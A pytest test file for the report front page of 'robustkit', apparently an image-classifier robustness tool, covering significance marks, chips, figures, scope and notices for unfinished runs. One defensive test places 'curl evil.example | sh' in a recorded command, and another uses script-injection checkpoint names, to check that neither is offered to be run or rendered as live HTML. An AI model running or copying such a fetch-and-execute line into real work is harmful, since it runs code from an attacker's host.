"""The first screen: marks that tests support, flags with their subject, and what an unfinished run lacks."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from compared_runs import FOG, PGD, N, Rows, rows_of, run_of
from figures import noted
from manifests import write_plain
from page_runs import HOSTILE, Page, make_run, page_of

from robustkit.cli.app import cli
from robustkit.common.figure import Figure
from robustkit.errors import RunError
from robustkit.evaluations.aggregate import Results
from robustkit.evaluations.corruptions import SETS
from robustkit.evaluations.presenting import Gap, findings_of, gaps_of, unfinished_line
from robustkit.report.front import FrontLine, FrontPage, front_of
from robustkit.report.refresh import refresh
from robustkit.report.run import Run
from robustkit.results.survey import looks_of, survey


def right(n: int) -> Rows:
    """Records of which the first n are right."""
    more = {"confidence": 0.5, "linf": 0.0, "l2": 0.0}
    return [
        row | more | {"correct": i < n, "prediction": (row["label"] + (i >= n)) % 3} for i, row in enumerate(rows_of(0))
    ]


def front(run: Run) -> FrontPage:
    return front_of(Results(run, [*survey(run)]), looks_of(run))


def lines(run: Run) -> dict[str, FrontLine]:
    return {line.title: line for group in front(run).groups for line in group}


def of_numbers(path: Path, **numbers: tuple[int, int]) -> Run:
    """A run of checkpoints with so many right ones, clean and under fog."""
    records = {(name, "clean"): right(clean) for name, (clean, _) in numbers.items()}
    records |= {(name, text): right(fog) for name, (_, fog) in numbers.items() for text in FOG}
    return run_of(path, records)


def marks(line: FrontLine) -> list[str]:
    return [cell.mark for cell in line.cells]


def test_best_and_worst_are_what_tests_say_not_what_the_values_do(tmp_path: Path) -> None:
    found = lines(of_numbers(tmp_path, plain=(36, 35), other=(34, 20), third=(35, 34)))
    assert [cell.value for cell in found["clean"].cells] == ["90.0", "85.0", "87.5"]
    assert marks(found["clean"]) == ["", "", ""] and found["clean"].verdict == "inconclusive"
    assert [cell.value for cell in found["fog"].cells] == ["87.5", "50.0", "85.0"] and not found["fog"].lower
    assert marks(found["fog"]) == [
        "best",
        "worst",
        "best",
    ]  # first and third are not distinguishable, both beat the other
    assert (found["fog"].verdict, found["fog"].detail) == ("p < 0.001", "2 of 3 pairs differ")
    middle = lines(of_numbers(tmp_path / "m", plain=(36, 38), other=(36, 25), third=(36, 10)))["fog"]
    assert marks(middle) == ["best", "", "worst"]


def test_two_checkpoints_have_their_difference_beside_them(tmp_path: Path) -> None:
    found = lines(of_numbers(tmp_path, plain=(36, 36), other=(34, 20)))
    assert found["clean"].verdict == "inconclusive" and found["clean"].detail.startswith("−5.0 [−")
    assert found["fog"].detail.startswith("−40.0 [−") and marks(found["fog"]) == ["best", "worst"]
    alone = lines(of_numbers(tmp_path / "alone", plain=(36, 36)))
    assert {(line.verdict, *marks(line)) for line in alone.values()} == {("", "")}


def test_of_many_checkpoints_each_is_tested_against_the_first(tmp_path: Path) -> None:
    numbers = {f"n{i}": (36, 36 if i % 2 else 12) for i in range(14)}
    run = of_numbers(tmp_path, **numbers)
    found = front(run)
    assert marks(found.groups[1][0]) == [""] + ["better", ""] * 6 + ["better"]
    assert "than the first" in found.note and not found.cards
    assert found.figure is not None and "The first 8 of 14 checkpoints." in found.figure.caption


def test_chips_sum_up_each_area_and_the_strongest_attack_stands_first(tmp_path: Path) -> None:
    weak, strong = PGD, PGD.replace("1/255", "2/255")
    numbers = {"clean": (36, 36), weak: (30, 31), strong: (20, 22), **dict.fromkeys(FOG, (36, 20))}
    records = {(name, text): right(n[at]) for text, n in numbers.items() for at, name in enumerate(("plain", "other"))}
    found = front(run_of(tmp_path, records))
    assert [line.title for line in found.groups[1]] == ["PGD, 2/255, 20 steps", "PGD, 1/255, 20 steps"]
    assert [(chip.label, chip.value, chip.detail, chip.section) for chip in found.chips] == [
        ("clean: top-1", "90.0 %", "equal", "clean"),
        ("PGD, 2/255: top-1", "55.0 vs 50.0 %", "other vs plain, inconclusive", "attacks"),
        ("fog: top-1", "90.0 vs 50.0 %", "plain vs other, p < 0.001", "corruptions"),
    ]
    alone = front(of_numbers(tmp_path / "alone", plain=(36, 30)))
    assert [(chip.value, chip.detail) for chip in alone.chips] == [
        ("90.0 %", "[76.9, 96.0]"),
        ("75.0 %", alone.groups[1][0].cells[0].interval),
    ]


def test_a_chip_names_no_one_of_several_that_are_worst(tmp_path: Path) -> None:
    tied = front(of_numbers(tmp_path / "tied", plain=(36, 30), other=(34, 30), third=(34, 20)))
    assert [chip.detail for chip in tied.chips] == ["plain vs 2 others, inconclusive", "plain vs third, p = 0.007"]


def test_of_one_checkpoint_a_chip_is_of_the_lowest_condition(tmp_path: Path) -> None:
    snow = [text.replace("fog", "snow") for text in FOG]
    records = {("plain", "clean"): right(36)} | {("plain", text): right(30) for text in snow}
    found = front(run_of(tmp_path, records | {("plain", text): right(20) for text in FOG}))
    assert [chip.label for chip in found.chips] == ["clean: top-1", "fog: top-1"]  # not snow, which stands first


@pytest.mark.usefixtures("whole_figures")
def test_a_figure_grows_by_its_conditions_and_names_each_apart(tmp_path: Path) -> None:
    steps = [PGD.replace("steps=20", f"steps={count}") for count in (20, 40, 60)]
    heights = []
    for texts in (steps[:1], steps[:2], steps):
        run = run_of(tmp_path / str(len(texts)), {("plain", text): right(30) for text in ("clean", *texts)})
        figure = front(run).figure
        assert figure is not None
        heights.append(figure.height)
        assert [f"{count} steps" in figure.svg.partition(figure.alt)[2] for count in (20, 40)] == [len(texts) > 1] * 2
    assert heights[1] - heights[0] == heights[2] - heights[1] > 10


def test_a_run_without_a_figure_says_what_would_draw_one(tmp_path: Path) -> None:
    with pytest.raises(RunError, match="nothing to plot; evaluate attacks or corruptions"):
        run_of(tmp_path, {("plain", "clean"): right(30)}).plot()


def test_the_figure_says_what_the_table_does(tmp_path: Path) -> None:
    figure = front(of_numbers(tmp_path, plain=(36, 30), other=(32, 20))).figure
    assert figure is not None and figure.title == "Accuracy by condition"
    assert "plain: clean 90.0 %, fog 75.0 %; other: clean 80.0 %, fog 50.0 %" in figure.alt
    assert f'aria-label="{figure.alt}"' in figure.svg


def scope(run: Run) -> dict[str, str]:
    return dict(front(run).scope)


def test_the_scope_says_what_was_evaluated_and_what_presets_have_besides(tmp_path: Path) -> None:
    records = {("plain", text): right(30) for text in ("clean", PGD, *FOG)}
    strip = scope(run_of(tmp_path / "run", records))
    assert strip["date"].startswith("1 Jan 2026, robustkit ") and strip["protocol"] == "standard@1"
    assert strip["data"] == "40 images of set" and strip["evaluated"] == "clean, PGD, fog"
    lacking = "FGSM, AutoAttack, SPSA, ImageNet-C in full, attribution maps"
    assert strip["not evaluated"] == lacking
    bare = scope(run_of(tmp_path / "bare", {("plain", "clean"): right(30)}))
    assert bare["not evaluated"] == "FGSM, PGD, AutoAttack, SPSA, ImageNet-C, attribution maps"
    complete = {
        ("plain", f"corruption({name},severity={k})"): right(30) for name in SETS["in-c"] for k in (1, 2, 3, 4, 5)
    }
    names = ("fgsm(eps=1/255)", "spsa(eps=1/255)", "autoattack(eps=1/255,version=standard,only=apgd-ce)")
    more = {("plain", text): right(30) for text in names}
    strip = scope(run_of(tmp_path / "whole", {**records, **complete, **more}))
    assert strip["not evaluated"] == "AutoAttack, attribution maps"  # a stage is no AutoAttack
    modified = {("plain", "autoattack(eps=1/255,version=standard,steps=3)"): right(30)}
    strip = scope(run_of(tmp_path / "modified", {**records, **complete, **more, **modified}))
    assert strip["not evaluated"] == "standard AutoAttack, attribution maps"
    part = run_of(tmp_path / "part", records, lambda plain: plain["data"].update(total=12_345))
    assert scope(part)["data"] == "40 images of set (of 12,345)"


def test_findings_are_counted_by_severity(tmp_path: Path) -> None:
    run = of_numbers(tmp_path, plain=(36, 36))
    findings = noted("exceeds eps [attack/exceeds-eps]", "8 of 9 [maps/misclassified-excluded]", "odd")
    rows = [Figure(0.5, 9, checkpoint="plain").of("clean", "top1", findings)]
    assert dict(front_of(Results(run, rows), looks_of(run)).scope)["findings"] == "2 doubts, 1 note"


def test_a_check_stands_on_the_page_until_results_change(tmp_path: Path) -> None:
    run = of_numbers(tmp_path, plain=(36, 36))
    refresh(run)
    policy = tmp_path / "<b>release.toml"

    def gate() -> str:
        return page_of(run).text("dd").partition("attribution maps")[2].partition("findings")[0]

    assert "no policy was checked" in gate()
    for rule, said in (
        ("top1 under clean >= 0.5", "passed"),
        ("top1 under clean >= 0.99", "not passed, 0 pass, 1 fail"),
    ):
        policy.write_text(f'[[rule]]\nrequire = "{rule}"\n')
        CliRunner().invoke(cli, ["check", str(run.path), "--policy", str(policy)])
        assert f"<b>release.toml: {said}" in gate() and "<b>release" not in (run.path / "report.html").read_text()
        refresh(run)
        assert f"<b>release.toml: {said}" in gate()  # the page of the same results
    summary = run.path / "summary.json"
    assert run.gate()["policy"] == policy.name
    summary.write_text(summary.read_text() + " ")
    assert run.gate() == {}
    (run.path / "gate.json").write_text("[1]")
    assert run.gate() == {}


def test_a_page_without_accuracies_draws_the_score_of_most_maps(tmp_path: Path) -> None:
    run = of_numbers(tmp_path, plain=(36, 36))
    maps = {method: f"cam({method},mode=mask)" for method in ("agcam", "rollout", "random")}
    rows = [Figure(0.9, 40, checkpoint="plain").of("clean", "top1")]
    rows += [Figure(k / 10, 40, checkpoint="plain").of(text, "cam_iou") for k, text in enumerate(maps.values(), 3)]
    rows += [
        Figure(0.2, 40, checkpoint="plain").of(
            maps["agcam"], "cam_iou_over_control", noted("best control: random [maps/best-control]")
        )
    ]
    page = front_of(Results(run, rows), looks_of(run))
    assert page.figure is not None and "AG-CAM, masks 30.0 %, rollout, masks 40.0 %" in page.figure.alt
    titles = [line.title for group in page.groups for line in group]
    assert titles == ["clean", "AG-CAM, masks", "rollout, masks"] and page.groups[1][0].cells[0].lead == "+20.0"
    assert "Lead: how far a map is above the best control" in page.note
    assert page.figure.caption == "Overlap with the object (IoU) with 95 % intervals."


@pytest.mark.parametrize(("lead", "whose"), [(-0.1, ""), (0.0, " of plain")])
def test_the_figure_says_which_maps_a_control_beats(tmp_path: Path, lead: float, whose: str) -> None:
    run = of_numbers(tmp_path, plain=(36, 36), other=(36, 36))
    agcam, rollout = "cam(agcam,mode=mask)", "cam(rollout,mode=mask)"
    leads = {("plain", agcam): 0.2, ("other", agcam): 0.0, ("plain", rollout): -0.1, ("other", rollout): lead}
    rows = [Figure(0.4, 40, checkpoint=name).of(text, "cam_iou") for name, text in leads]
    rows += [
        Figure(value, 40, checkpoint=name).of(text, "cam_iou_over_control") for (name, text), value in leads.items()
    ]
    figure = front_of(Results(run, rows), looks_of(run)).figure
    assert figure is not None
    assert figure.caption.partition("at the image: ")[2] == f"rollout, masks{whose}."


def flagged(run: Run, *rows: tuple[str, str, str, str]) -> list[tuple[str, str, str]]:
    plain = [Figure(0.5, 9, checkpoint=who).of(at, metric, noted(*flag.splitlines())) for who, at, metric, flag in rows]
    return [(each.who, each.where, each.finding.text) for each in findings_of(Results(run, plain))]


def test_flags_have_their_subject(tmp_path: Path) -> None:
    run = run_of(tmp_path, {(name, text): right(9) for name in ("plain", "other") for text in ("clean", PGD, *FOG)})
    odd = [("other", text, metric, "odd") for text in FOG for metric in ("top1", "nll")]
    assert flagged(run, ("plain", PGD, "top1", ""), *odd) == [("other", "fog", "odd")]  # five levels are one condition
    both = [(name, PGD, "top1", "weak") for name in ("plain", "other")]
    assert flagged(run, *both) == [("both checkpoints", "PGD, 1/255, 20 steps", "weak")]
    many = [f"corruption({name})" for name in ("fog", "snow", "frost", "contrast", "pixelate")]
    at_all = [("plain", text, "ce", "small") for text in many]
    assert flagged(run, ("plain", "clean", "top1", ""), *at_all) == [("plain", "all corruptions", "small")]
    assert flagged(run, ("plain", "corruption(saturate)", "ce", ""), *at_all) == [
        ("plain", "fog; snow; frost and 2 more conditions", "small")
    ]
    assert (
        flagged(run, ("plain", "clean", "top1", "incomplete: 3 of 4 [run/incomplete]")) == []
    )  # the page says so above
    levels = [("plain", text, "top1", "odd" if place < 2 else "") for place, text in enumerate(FOG)]
    assert flagged(run, *levels) == [("plain", "fog in part", "odd")]
    assert flagged(run, levels[0], *levels[2:]) == [("plain", "fog, severity 1", "odd")]
    noise = [
        ("plain", f"corruption({name},severity={severity})", "top1", "odd")
        for name in ("gaussian_noise", "shot_noise", "impulse_noise")
        for severity in (1, 2, 3, 4, 5)
    ]
    said = [("plain", "gaussian noise; shot noise; impulse noise", "odd")]  # which is all that their mean is over
    assert flagged(run, ("plain", "clean", "top1", ""), *noise, ("plain", "noise", "mean_error", "odd")) == said
    left = ("plain", FOG[0], "miou", "1 of 3 classes is in neither [segmentation/class-left-out]")
    assert flagged(run, left, ("plain", "corruption(fog)", "miou", "")) == []  # the mean says what matters of it


@pytest.fixture
def half(tmp_path: Path) -> Run:
    """A run whose second checkpoint has no record at one severity of fog, and only half of those under PGD."""
    records = {(name, text): right(30) for name in ("plain", "other") for text in ("clean", PGD, *FOG)}

    def halved(manifest: dict[str, Any]) -> None:
        manifest["shard_size"] = N // 2
        manifest["command"] = "robustkit audit a.pth '<b>.pth' --data-dir 'my images'"

    run = run_of(tmp_path / "half", records, halved)
    shutil.rmtree(run.shard_path("other", FOG[2], 0).parent)
    run.shard_path("other", PGD, 1).unlink()
    return run


def test_what_an_unfinished_run_lacks(half: Run, tmp_path: Path) -> None:
    assert gaps_of(half) == [Gap("PGD, 1/255, 20 steps", 1, 4, 20, 40), Gap("fog", 2, 20, 0, 40)]
    line = "are missing; to complete it: robustkit audit a.pth '<b>.pth' --data-dir 'my images'"
    assert unfinished_line(half) == f"unfinished: 3 of 28 units {line}"
    assert (
        unfinished_line(half, "other") == f"unfinished: 3 of 14 units {line}" and unfinished_line(half, "plain") == ""
    )
    assert gaps_of(of_numbers(tmp_path / "whole", plain=(3, 3))) == []


def test_a_command_of_someone_else_is_not_offered(half: Run, tmp_path: Path) -> None:
    plain = half.manifest.to_plain()
    write_plain(half, plain | {"command": "robustkit audit a.pth; curl evil.example | sh"})
    refresh(half)
    page = page_of(half)
    why = "run.json records it in a form that no audit writes, and a shell may interpret it differently"
    assert f"completes it, which is not repeated here: {why}." in page.text() and not page.all("pre")
    assert f"⚑ not offered to be run again: {why}" in page.text("dd") and "curl" in page.text("dd")
    assert unfinished_line(half).endswith(f"rerun the same command to complete it; it is hidden because {why}")
    assert "curl" not in unfinished_line(half)


def test_an_unfinished_run_says_so_wherever_it_is_shown(half: Run, tmp_path: Path) -> None:
    refresh(half)
    page = page_of(half)
    said = page.text()
    assert "This run is unfinished. 3 units of work are missing" in said
    assert "PGD, 1/255, 20 steps (1 of 4); fog (2 of 20)." in said
    assert "robustkit audit a.pth '<b>.pth' --data-dir 'my images'" in page.text("pre")
    for command in (["report", str(half.path)], ["compare", str(half.path)]):
        done = CliRunner().invoke(cli, command)
        assert done.exit_code == 0 and f"⚑ {half.path}: unfinished: 3 of 28 units are missing" in done.output
    out = tmp_path / "card"
    assert CliRunner().invoke(cli, ["card", str(half.path), "--checkpoint", "other", "--out", str(out)]).exit_code == 0
    for name in ("card.md", "metadata.yml", "results.json", "badge.svg"):
        assert "unfinished" in (out / name).read_text("utf-8"), name
    assert "(unfinished)</text>" in (out / "badge.svg").read_text("utf-8")
    assert CliRunner().invoke(cli, ["card", str(half.path), "--checkpoint", "plain", "--out", str(out)]).exit_code == 0
    assert "unfinished" not in "".join((out / name).read_text("utf-8") for name in ("card.md", "badge.svg"))


def test_a_run_that_its_rules_may_stop_says_what_it_has(half: Run) -> None:
    write_plain(half, half.manifest.to_plain() | {"sequential": True})
    refresh(half)
    page = page_of(half)
    said = " ".join(page.text().split())
    assert "This run stops as soon as all rules of its policy are decided. It has records of a part of its 40" in said
    assert (
        "20 to 40 under PGD, 1/255, 20 steps; 0 to 40 under fog. An audit of all of them is made by this command"
        in said
    )
    assert "This run is unfinished" not in said
    assert page.text("pre").strip() == "robustkit audit a.pth '<b>.pth' --data-dir 'my images'"


def test_a_finished_run_does_not(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run")
    refresh(run)
    assert "unfinished" not in page_of(run).text()
    assert "unfinished" not in CliRunner().invoke(cli, ["compare", str(run.path)]).output


def test_hostile_names_are_text_on_the_first_screen(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", checkpoints=HOSTILE[:4])
    refresh(run)
    text = (run.path / "report.html").read_text("utf-8")
    page = Page(text)
    heads = [attrs["title"] for attrs in page.all("th") if "title" in attrs]
    assert heads == list(HOSTILE[:4])
    assert not any(attrs.get("src") == "x" for attrs in page.all("img")) and "<script>alert" not in text
